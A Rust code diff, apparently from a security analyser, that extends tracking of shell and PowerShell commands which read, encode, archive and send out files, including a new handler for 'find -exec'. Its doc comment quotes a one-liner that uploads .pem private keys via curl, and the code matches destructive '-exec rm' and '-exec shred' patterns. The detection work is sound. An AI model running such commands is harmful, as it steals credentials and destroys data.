@@ -1,6 +1,6 @@
 //! Programs that make one text of another.
 
-use super::RunCommand;
+use super::{FETCHERS, RunCommand, invoke};
 use crate::flow::{
     ActKind, EvaluatedLanguage, PathKind, SourceKind,
     eval::Evaluator,
@@ -8,6 +8,15 @@ use crate::flow::{
     value::FlowValue,
     vocabulary::{CodecKind, rot13, undo},
 };
+
+/// What .NET has to read a file.
+const READERS: &[&str] = &[
+    ".readallbytes",
+    ".readalltext",
+    ".readalllines",
+    ".readlines",
+    ".openread",
+];
 
 impl RunCommand<'_> {
     /// Programs that make one text of another.
@@ -34,6 +43,11 @@ impl RunCommand<'_> {
             "gzip" if decodes => CodecKind::Compressed,
             "uudecode" => CodecKind::Compressed,
             "convert.frombase64string" | "system.convert.frombase64string" => CodecKind::Base64,
+            "join-path" => return Some(FlowValue::concat(self.operands(), "/")),
+            name if READERS.iter().any(|end| name.ends_with(end)) => {
+                let path = self.operands().next().cloned().unwrap_or_default();
+                return Some(this.read(&path, self.at));
+            }
             "rev" => {
                 let mut value = self.input.clone();
                 value
@@ -76,7 +90,8 @@ impl RunCommand<'_> {
             | "strings" | "grep" | "egrep" | "rg" | "awk" | "sed" | "cut" | "sort" | "uniq"
             | "jq" | "yq" | "tee" | "wc" | "dd" | "gzip" | "zip" | "tar" | "7z" | "base64"
             | "xxd" | "hexdump" | "find" | "ls" | "iconv" | "paste" | "nl" | "column"
-            | "sqlite3" => {
+            | "sqlite3" | "base32" | "basenc" | "gbase64" | "od" | "fold" | "xz" | "bzip2"
+            | "zstd" | "uuencode" | "split" | "shuf" | "compress-archive" => {
                 return Some(self.filter(this));
             }
             _ => return None,
@@ -188,13 +203,13 @@ impl RunCommand<'_> {
                 }
                 self.unpacks(this, fetched);
             }
-            "tar" | "zip" | "7z" => {
-                if let Some(archive) = self
-                    .operands()
-                    .next()
-                    .and_then(FlowValue::known)
-                    .map(str::to_owned)
-                {
+            // What was copied beside each other before is in the archive.
+            "tar" | "zip" | "7z" | "compress-archive" => {
+                value.absorb(&this.staged);
+                let archive = self
+                    .after(&["-destinationpath", "-f", "-cf", "-czf", "--file"])
+                    .or_else(|| self.operands().next());
+                if let Some(archive) = archive.and_then(FlowValue::place) {
                     this.store_file(&archive, value.clone());
                 }
             }
@@ -215,8 +230,45 @@ impl RunCommand<'_> {
         }
     }
 
+    /// `find ~ -name '*.pem' -exec curl -F f=@{} url \;`
+    fn find_exec(&self, this: &mut Evaluator<'_>) {
+        let flag = |word: &FlowValue| matches!(word.known(), Some("-exec" | "-execdir" | "-ok"));
+        let Some(start) = self.words.iter().position(flag) else {
+            return;
+        };
+        let root = self.operands().next().map(FlowValue::shown);
+        let root = root.unwrap_or_default();
+        let named = self.after(&["-name", "-iname"]).map(FlowValue::shown);
+        let path = match &named {
+            Some(name) => format!("{root}/{}", name.replace('*', "x")),
+            None => root.clone(),
+        };
+        let mut words = Vec::new();
+        for word in &self.words[start + 1..] {
+            let Some(text) = word.known() else {
+                words.push(word.clone());
+                continue;
+            };
+            if matches!(text, ";" | "\\;" | "+") {
+                break;
+            }
+            let mut given = FlowValue::text(text.replace("{}", &path));
+            if text.contains("{}") {
+                given.absorb(&this.read(&FlowValue::text(root.clone()), self.at));
+            }
+            words.push(given);
+        }
+        let mut words = words.into_iter();
+        let sends =
+            |program: &FlowValue| program.known().is_some_and(|name| FETCHERS.contains(&name));
+        if let Some(program) = words.next().filter(sends) {
+            invoke(this, &program, words.collect(), None, self.at);
+        }
+    }
+
     pub(super) fn find(&self, this: &mut Evaluator<'_>) {
         let line = self.line();
+        self.find_exec(this);
         if self.texts().any(|word| word == "-delete")
             || line.contains("-exec rm")
             || line.contains("-exec shred")
